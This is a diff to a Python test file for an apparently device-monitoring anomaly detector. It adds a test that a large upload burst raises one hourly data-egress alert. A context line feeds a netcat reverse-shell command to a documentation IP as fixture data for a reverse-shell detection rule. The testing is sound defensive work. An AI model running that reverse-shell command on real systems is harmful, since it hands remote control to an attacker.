@@ -268,3 +268,17 @@ def test_a_device_s_new_alerts_per_hour_are_bounded():
     assert summary[0]["count"] == 150
     later = _fired(items[:1] + [_item("nc -e /bin/sh 203.0.113.7 9", START + 3600 * 2, pid=9)])
     assert len(of_rule(later, "reverse-shell")) == 2     # a new hour, a new budget
+
+
+def test_data_egress_far_above_the_learned_hours_is_one_alert_per_hour(tmp_path):
+    def upload(t, sent):
+        return dict(_connection(t, "198.51.100.80", 443, bytes_in=2000), bytes_out=sent)
+    base = quiet(hours=30.0)                        # ~60 KB out per hour of MQTT
+    day2 = START + 86400 + 2 * 3600
+    normal = [upload(day2 + 60 * i, 100000) for i in range(10)]          # 1 MB: under the line
+    burst = [upload(day2 + 3600 + 60 * i, 5000000) for i in range(10)]    # 50 MB in one hour
+    alerts = evaluate(replay(merged(base, normal, burst), tmp_path))
+    egress = of_rule(alerts, "data-egress")
+    assert [a["key"] for a in egress] == ["hour %d" % (int((day2 + 3600) // 3600) * 3600)]
+    assert egress[0]["evidence"][-1]["bytes_out"] >= 50000000
+    assert len(egress[0]["evidence"]) == 1
